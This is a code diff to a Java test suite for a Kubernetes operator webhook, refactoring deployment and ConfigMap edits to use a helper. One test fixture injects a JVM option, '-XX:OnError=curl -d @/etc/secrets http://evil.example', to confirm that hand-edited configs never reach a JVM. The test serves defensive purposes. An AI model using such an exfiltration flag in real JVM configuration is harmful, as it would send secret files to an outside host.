@@ -162,7 +162,7 @@ class WebhookDoNoHarmTest {
                 MetadataKeys.TARGET_CONTAINER)));
         String allocationHash = annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH);
         // The user moves the agent to the other container (same memory: the same allocation).
-        client.apps().deployments().inNamespace(NS).withName("retarget").edit(d -> {
+        Fixtures.edit(client.apps().deployments().inNamespace(NS).withName("retarget"), d -> {
             d.getMetadata().getAnnotations().put(MetadataKeys.CONTAINER, "proxy");
             return d;
         });
@@ -262,7 +262,7 @@ class WebhookDoNoHarmTest {
     void aHandEditedConfigMapReachesNoJvm(TestInfo test) {
         harm = new DoNoHarm(client);
         // kubectl edit: a flag added to the published document, by a field manager that is not the operator.
-        client.configMaps().inNamespace(NS).withName(configMapName("edited")).edit(cm -> withJvmOptions(cm,
+        Fixtures.edit(client.configMaps().inNamespace(NS).withName(configMapName("edited")), cm -> withJvmOptions(cm,
                 flags -> flags.add("-XX:OnError=curl -d @/etc/secrets http://evil.example")));
         Pod pod = admittedOnceSeen("edited", p -> p.toString().contains("OnError"));
 
